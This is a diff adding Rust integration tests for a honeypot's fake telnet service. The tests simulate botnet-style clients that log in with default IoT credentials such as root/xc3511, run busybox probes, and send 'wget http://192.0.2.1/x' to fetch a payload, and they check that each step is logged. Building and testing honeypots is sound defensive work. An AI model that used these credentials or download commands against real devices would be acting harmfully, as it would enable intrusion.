@@ -1,0 +1,173 @@
+//! The telnet service over real sockets.
+
+mod support;
+
+use palisade_event::{Event, Outcome};
+use palisade_honeypot::Accept;
+use support::{
+    Zone, config, connect, kinds, number, read_all, read_until, reason, request, send, text,
+};
+
+fn login(event: &Event) -> (&[u8], &[u8], Outcome) {
+    let credentials = event.credentials.as_ref().expect("credentials");
+    (
+        credentials.username.as_ref().unwrap().as_bytes(),
+        credentials.password.as_ref().unwrap().as_bytes(),
+        credentials.outcome.unwrap(),
+    )
+}
+
+#[tokio::test]
+async fn a_login_and_its_commands_are_recorded_in_order() {
+    let mut zone = Zone::start(&config()).await;
+    let mut client = connect(zone.telnet).await;
+    let local = client.local_addr().unwrap();
+    let opening = read_until(&mut client, b"login: ").await;
+    assert_eq!(opening, b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03cam1 login: ");
+    send(&mut client, b"root\r\n").await;
+    assert_eq!(read_until(&mut client, b"Password: ").await, b"root\r\nPassword: ");
+    send(&mut client, b"w\xffrong\r\0").await;
+    let refused = read_until(&mut client, b"login: ").await;
+    assert_eq!(refused, b"\r\nLogin incorrect\r\ncam1 login: ", "the password is not echoed");
+    send(&mut client, b"root\nxc3511\n").await;
+    read_until(&mut client, b"built-in shell (ash)\r\n").await;
+    read_until(&mut client, b"~ # ").await;
+    send(&mut client, b"enable\r\ncd /tmp; /bin/busybox ECCHI\r\n").await;
+    let answers = read_until(&mut client, b"/tmp # ").await;
+    let answers = String::from_utf8(answers).unwrap();
+    assert!(answers.contains("-sh: enable: not found\r\n~ # "), "{answers}");
+    assert!(answers.contains("ECCHI: applet not found\r\n/tmp # "), "{answers}");
+    send(&mut client, b"exit\r\n").await;
+    read_all(&mut client).await;
+    drop(client);
+
+    let events = zone.session().await;
+    assert_eq!(
+        kinds(&events),
+        [
+            "connection.opened",
+            "auth.attempted",
+            "auth.attempted",
+            "command.entered",
+            "command.entered",
+            "command.entered",
+            "session.closed"
+        ]
+    );
+    assert_eq!(login(&events[1]), (&b"root"[..], &b"w\xffrong"[..], Outcome::Failed));
+    assert_eq!(login(&events[2]), (&b"root"[..], &b"xc3511"[..], Outcome::Accepted));
+    assert_eq!(text(&events[1], "method"), b"telnet");
+    assert_eq!(request(&events[4]), b"cd /tmp; /bin/busybox ECCHI");
+    assert_eq!(reason(&events), "completed");
+    assert!(number(&events[6], "bytes_in") > 60 && number(&events[6], "bytes_out") > 100);
+    for event in &events {
+        assert_eq!(event.validate(), Ok(()));
+        assert_eq!(event.session, events[0].session);
+        assert_eq!(event.source.unwrap().address, local.ip());
+        assert_eq!(event.source.unwrap().port, Some(local.port()));
+        assert_eq!(event.target.unwrap().port, Some(zone.telnet.port()));
+        assert_eq!(event.category.as_ref().unwrap().as_str(), "Telnet(palisade)");
+        assert_eq!(event.sensor.as_str(), "test");
+    }
+    assert!(events.is_sorted_by_key(|event| event.id), "ids sort as things happened");
+    assert!(zone.end().await.is_empty());
+}
+
+#[tokio::test]
+async fn options_are_negotiated_and_the_terminal_recorded() {
+    let mut zone = Zone::start(&config()).await;
+    let mut client = connect(zone.telnet).await;
+    read_until(&mut client, b"login: ").await;
+    // WILL NAWS (asked for), SB NAWS 80x24, WILL TTYPE, DO STATUS, WILL LINEMODE, DO SGA (announced).
+    send(&mut client, b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfb\x18").await;
+    send(&mut client, b"\xff\xfd\x05\xff\xfb\x22\xff\xfd\x03").await;
+    let answer = read_until(&mut client, b"\xff\xfe\x22").await;
+    assert_eq!(answer, b"\xff\xfd\x18\xff\xfa\x18\x01\xff\xf0\xff\xfc\x05\xff\xfe\x22");
+    send(&mut client, b"\xff\xfa\x18\x00XTERM\xff\xf0").await;
+    drop(client);
+    let events = zone.session().await;
+    let closed = events.last().unwrap();
+    assert_eq!((number(closed, "columns"), number(closed, "rows")), (80, 24));
+    assert_eq!(text(closed, "terminal_type"), b"XTERM");
+    assert_eq!(reason(&events), "client-closed");
+}
+
+#[tokio::test]
+async fn a_client_that_negotiates_without_end_is_not_answered_without_end() {
+    let mut zone = Zone::start(&config()).await;
+    let mut client = connect(zone.telnet).await;
+    send(&mut client, &b"\xff\xfb\x55".repeat(10_000)).await;
+    send(&mut client, b"\x04").await;
+    let answers = read_all(&mut client).await;
+    assert!(answers.len() < 300, "{}", answers.len());
+    drop(client);
+    assert_eq!(kinds(&zone.session().await), ["connection.opened", "session.closed"]);
+}
+
+#[tokio::test]
+async fn the_policy_decides_who_gets_in() {
+    for (accept, weak, tries, accepted) in [
+        (Accept::Never, false, 3, 0),
+        (Accept::Always, false, 1, 1),
+        (Accept::After(2), false, 2, 1),
+        (Accept::Never, true, 1, 1),
+    ] {
+        let mut config = config();
+        let telnet = config.services[0].telnet.as_mut().unwrap();
+        (telnet.accept, telnet.weak_credentials) = (accept, weak);
+        let mut zone = Zone::start(&config).await;
+        let mut client = connect(zone.telnet).await;
+        // Sent ahead, as bots do.
+        send(&mut client, &b"admin\r\nadmin\r\n".repeat(tries)).await;
+        if accepted == 1 {
+            read_until(&mut client, b"~ # ").await;
+        } else {
+            read_all(&mut client).await;
+        }
+        drop(client);
+        let events = zone.session().await;
+        let outcomes: Vec<Outcome> =
+            events.iter().filter(|e| e.credentials.is_some()).map(|e| login(e).2).collect();
+        let mut expected = vec![Outcome::Failed; tries - accepted];
+        expected.resize(tries, Outcome::Accepted);
+        assert_eq!(outcomes, expected, "{accept:?} {weak}");
+    }
+}
+
+#[tokio::test]
+async fn what_was_typed_last_is_recorded_without_its_line_end() {
+    let mut zone = Zone::start(&config()).await;
+    let mut client = connect(zone.telnet).await;
+    send(&mut client, b"root\nroot\n").await;
+    read_until(&mut client, b"~ # ").await;
+    send(&mut client, b"wget http://192.0.2.1/x").await;
+    read_until(&mut client, b"/x").await;
+    drop(client);
+    let events = zone.session().await;
+    let last = &events[events.len() - 2];
+    assert_eq!(
+        (last.kind.as_str(), request(last)),
+        ("command.entered", &b"wget http://192.0.2.1/x"[..])
+    );
+    assert!(last.attributes.contains_key("unfinished"));
+}
+
+#[tokio::test]
+async fn other_protocols_are_named_and_are_no_logins() {
+    let probes: [(&[u8], &[u8]); 3] = [
+        (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"http"),
+        (b"\x16\x03\x01\x00\x05\x01\r\n\r\n\r\n", b"tls"),
+        (b"SSH-2.0-Go\r\n", b"ssh"),
+    ];
+    let mut zone = Zone::start(&config()).await;
+    for (bytes, protocol) in probes {
+        let mut client = connect(zone.telnet).await;
+        read_until(&mut client, b"login: ").await;
+        send(&mut client, bytes).await;
+        read_until(&mut client, b"Password: ").await;
+        drop(client);
+        let events = zone.session().await;
+        assert_eq!(kinds(&events), ["connection.opened", "data.received", "session.closed"]);
+        assert_eq!((text(&events[1], "protocol"), request(&events[1])), (protocol, bytes));
+    }
+}
